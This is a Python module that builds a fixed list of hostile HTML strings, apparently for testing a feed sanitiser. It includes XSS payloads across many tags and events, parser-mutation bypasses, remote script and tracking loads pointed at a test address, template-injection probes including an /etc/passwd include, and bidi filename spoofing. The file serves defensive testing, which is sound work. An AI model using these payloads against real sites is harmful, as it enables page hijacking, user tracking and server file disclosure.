"""Hostile texts of all the kinds that a feed can hold. Active ones call the address that `at` gives, or mark the page."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

MARK = "document.documentElement.setAttribute('data-hit','1')"
_EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpageshow",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "audio src=x",
    "iframe",
    "marquee",
    "a href=x",
)
_OPENERS = ("", '">', "'>", "</a>", "</td></tr></table>", "</style>", "</title></head>", "-->", "]]>", "</textarea>")
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"


def vectors(at: str) -> tuple[str, ...]:
    """The texts, each once, in a fixed order: 150 and more."""
    return tuple(dict.fromkeys(_all(at)))


def _all(at: str) -> Iterator[str]:
    for opener in _OPENERS:
        yield f"{opener}<script>{MARK}</script>"
        yield f"{opener}<script src={at}/s></script>"
        yield f"{opener}<img src={at}/i onerror={MARK}>"
        yield f"{opener}<svg onload={MARK}>"
    for tag, event in product(_TAGS, _EVENTS):
        yield f"<{tag} {event}={MARK}>"
    for url in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "\x01javascript:",
        "vbscript:",
        "data:text/html,<script>",
    ):
        yield f"<a href='{url}{MARK}'>x</a>"
        yield f'<iframe src="{url}{MARK}"></iframe>'
    yield from _loads(at)
    yield from _mutations()
    yield from _templates()
    yield from (f"a{mark}b<b>{mark}gpj.exe" for mark in _BIDI)
    yield from (f"zero{mark}width" for mark in "\u200b\u200c\u200d\ufeff\u00ad\u2028\u2029\x00\x07\x1b")


def _loads(at: str) -> Iterator[str]:
    yield f"<link rel=stylesheet href={at}/c>"
    yield f"<style>@import url({at}/m);body{{background:url({at}/b)}}</style>"
    yield f"<table background={at}/t><tr><td background={at}/u>"
    yield f'<p style="background:url({at}/v)">x'
    yield f"<img width=1 height=1 src={at}/pixel.gif>"
    yield f"<img srcset='{at}/w 1x'>"
    yield f"<object data={at}/o></object><embed src={at}/e>"
    yield f"<base href={at}/>"
    yield f"<meta http-equiv=refresh content='0;url={at}/r'>"
    yield f"<form action={at}/f><input type=submit autofocus></form>"
    yield f"<video poster={at}/p></video><audio src={at}/a autoplay>"
    yield f"<svg><image href={at}/g /><use href={at}/h#x /></svg>"
    yield f"<frameset><frame src={at}/k></frameset>"
    yield f"<link rel=prefetch href={at}/l><link rel=dns-prefetch href={at}>"


def _mutations() -> Iterator[str]:
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={MARK}&gt;'>"
    yield f"<svg></p><style><a id='</style><img src=x onerror={MARK}>'>"
    yield f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={MARK}>"
    yield f"<template><script>{MARK}</script></template>"
    yield f"<xmp><p title='</xmp><img src=x onerror={MARK}>'>"
    yield f"<![CDATA[<script>{MARK}</script>]]>"
    yield f"<!--[if mso]><script>{MARK}</script><![endif]-->"
    yield f"&lt;script&gt;{MARK}&lt;/script&gt;"
    yield f"&#60;img src=x onerror={MARK}&#62;"
    yield f"+ADw-script+AD4-{MARK}+ADw-/script+AD4-"
    yield f"\uff1cscript\uff1e{MARK}\uff1c/script\uff1e"
    yield f"<scr<script>ipt>{MARK}</scr</script>ipt>"
    yield f"<IMG SRC=x OnErRoR={MARK}>"
    yield f"<img/src=x/onerror={MARK}>"
    yield f"<a href=x autofocus tabindex=0 onfocus={MARK}>"


def _templates() -> Iterator[str]:
    yield from (
        "{{7*7}}",
        "{% raw %}{{7*7}}",
        "{# 7 #}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{issue.__class__}}",
        "%s %n {0}",
    )
    yield from (
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% include '/etc/passwd' %}",
        "{{ cycler.__init__.__globals__ }}",
    )
